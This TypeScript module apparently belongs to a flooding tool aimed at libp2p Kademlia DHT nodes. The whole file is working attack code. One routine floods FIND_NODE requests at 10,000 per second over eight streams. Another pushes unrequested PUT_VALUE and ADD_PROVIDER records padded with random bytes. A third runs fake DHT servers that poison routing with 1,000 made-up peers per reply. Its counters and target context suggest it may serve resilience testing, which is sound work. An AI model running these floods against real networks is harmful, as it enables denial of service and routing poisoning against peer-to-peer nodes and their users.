import { randomBytes } from 'node:crypto'
import type { Stream } from '@libp2p/interface'
import { again, atRate, connectPeer, kadOf, openStream, push } from '../peer.ts'
import { field, framed, numberField } from '../protobuf.ts'
import type { Flood, FloodContext } from '../types.ts'

const FIND_NODE = 4
const PUT_VALUE = 0
const ADD_PROVIDER = 2

/** As many FIND_NODE as a stream takes, 10 000 at a time, over eight streams. */
export const findNode: Flood = (context) => requests(context, () => findNodeRequest())

/** Records and providers that nobody asked for. */
export const records: Flood = (context) =>
  requests(context, (i) =>
    Buffer.concat([
      numberField(1, i % 2 === 0 ? PUT_VALUE : ADD_PROVIDER),
      field(2, Buffer.from('/constructor/x')),
      field(3, randomBytes(2000)),
    ]),
  )

/** DHT servers that answer each request with a thousand peers and addresses that they made up. */
export const poisonedPeers: Flood = async (context) => {
  const answer = (stream: Stream) => {
    stream.addEventListener('message', () => {
      const closer = Array.from({ length: 1000 }, madeUpPeer)
      const reply = Buffer.concat([
        numberField(1, FIND_NODE),
        ...closer.map((peer) => field(8, peer)),
      ])
      push(stream, framed(reply)).then((isSent) => isSent && context.count('made-up peers', 1000))
    })
  }
  let index = 0
  await Promise.all(
    Array.from({ length: 12 }, () =>
      again(context, async () => {
        const peer = await connectPeer(context, context.host(index++), {
          onStream: (stream, protocol) => {
            if (protocol === kadOf(context.target)) answer(stream)
          },
        })
        context.count('servers')
        await new Promise((resolve) => {
          peer.libp2p.addEventListener('peer:disconnect', resolve)
          context.signal.addEventListener('abort', resolve)
        })
      }),
    ),
  )
}

function madeUpPeer(): Buffer {
  const id = Buffer.concat([Buffer.from([0, 36, 8, 1, 18, 32]), randomBytes(32)])
  const addresses = Array.from({ length: 8 }, () =>
    field(2, Buffer.concat([Buffer.from([4, 9]), randomBytes(3), Buffer.from([6, 0x0f, 0xa2])])),
  )
  return Buffer.concat([field(1, id), ...addresses])
}

function findNodeRequest(): Buffer {
  return Buffer.concat([numberField(1, FIND_NODE), field(2, randomBytes(32))])
}

async function requests(context: FloodContext, request: (index: number) => Buffer): Promise<void> {
  let index = 0
  await again(context, async () => {
    const peer = await connectPeer(context, context.host(0))
    const oneStream = async () => {
      const stream = await openStream(peer, kadOf(context.target))
      if (stream === null) return
      await atRate(context.signal, 10_000, () => {
        context.count('requests')
        return push(stream, framed(request(index++)))
      })
      context.count('streams lost')
    }
    const streams = Array.from({ length: 8 }, async () => {
      while (!context.signal.aborted && peer.connection.status === 'open') {
        await oneStream()
        await new Promise((resolve) => setTimeout(resolve, 20))
      }
    })
    await Promise.all(streams)
    await peer.libp2p.stop()
  })
}
